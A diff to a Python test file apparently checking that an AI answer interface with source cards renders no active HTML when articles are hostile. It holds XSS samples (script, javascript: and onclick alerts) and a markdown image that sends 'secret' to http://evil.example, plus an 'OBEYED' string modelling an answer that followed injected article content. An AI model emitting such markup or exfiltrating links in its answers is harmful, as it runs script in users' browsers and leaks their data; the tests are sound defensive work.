@@ -49,6 +49,10 @@ OBEYED = (
     "<http://evil.example> <script>alert(1)</script> [1]. Ilse Marten won the mayoral election in "
     "Brackwater on Sunday [1]. See http://evil.example/x [1]."
 )
+OWN_BUTTONS = {
+    (name, 0)
+    for name in ("", "Edit", "Ask this instead", "Cancel", "Copy with sources", "Ask again")
+}
 ACTIVE = "img form input button script iframe object embed svg style link meta video audio".split()
 
 
@@ -80,23 +84,27 @@ def events_of(library: Library, model: Model, question: str) -> list[Event]:
 def drawn(events: list[Event]) -> Iterator[str]:
     """The HTML of the answer and its sources after each event, as a browser would have it."""
     shown = Drawn(0)
-    markdown = MarkdownIt("commonmark", {"html": True})
     for event in events:
         shown.draw(event)
-        yield markdown.render(shown.message()["content"]) + shown.sources
+        yield shown.answer + shown.sources
 
 
 def acts(page: str) -> list[str]:
     """What of the HTML would load, send, run or lead elsewhere."""
     found = []
     for element in html.fromstring(f"<div>{page}</div>").iter():
-        if element.tag in ACTIVE:
+        if element.tag in ACTIVE and not is_ours(element):
             found.append(html.tostring(element, encoding="unicode"))
         for name, value in element.attrib.items():
             own = value.startswith(("#source-", "articles/"))
             if name.startswith("on") or (name in {"href", "src", "action"} and not own):
                 found.append(f"{name}={value}")
     return found
+
+
+def is_ours(element: html.HtmlElement) -> bool:
+    """Whether it is one of the page's own buttons, with nothing in it but its name."""
+    return element.tag == "button" and (element.text_content(), len(element)) in OWN_BUTTONS
 
 
 def in_a_row(text: str, length: int = 6) -> set[str]:
@@ -166,6 +174,7 @@ def test_what_acts_would_be_seen_by_these_tests() -> None:
         '<a href="javascript:alert(1)">here</a>',
         '<p onclick="alert(1)">here</p>',
         "<form></form>",
+        "<button>Sign in</button>",
         MarkdownIt("commonmark").render("![x](http://evil.example/?q=secret)"),
     ):
         assert acts(page)
@@ -179,7 +188,7 @@ def test_source_cards_of_hostile_articles_lead_to_these_articles_only(attacked: 
 
 
 def test_a_claim_with_markup_is_drawn_letter_by_letter() -> None:
-    page = MarkdownIt("commonmark", {"html": True}).render(with_links(OBEYED, 0))
+    page = with_links(OBEYED, 0)
     assert acts(page) == []
     assert "HACKED ![x](http://evil.example/?q=secret)" in html.fromstring(page).text_content()
 
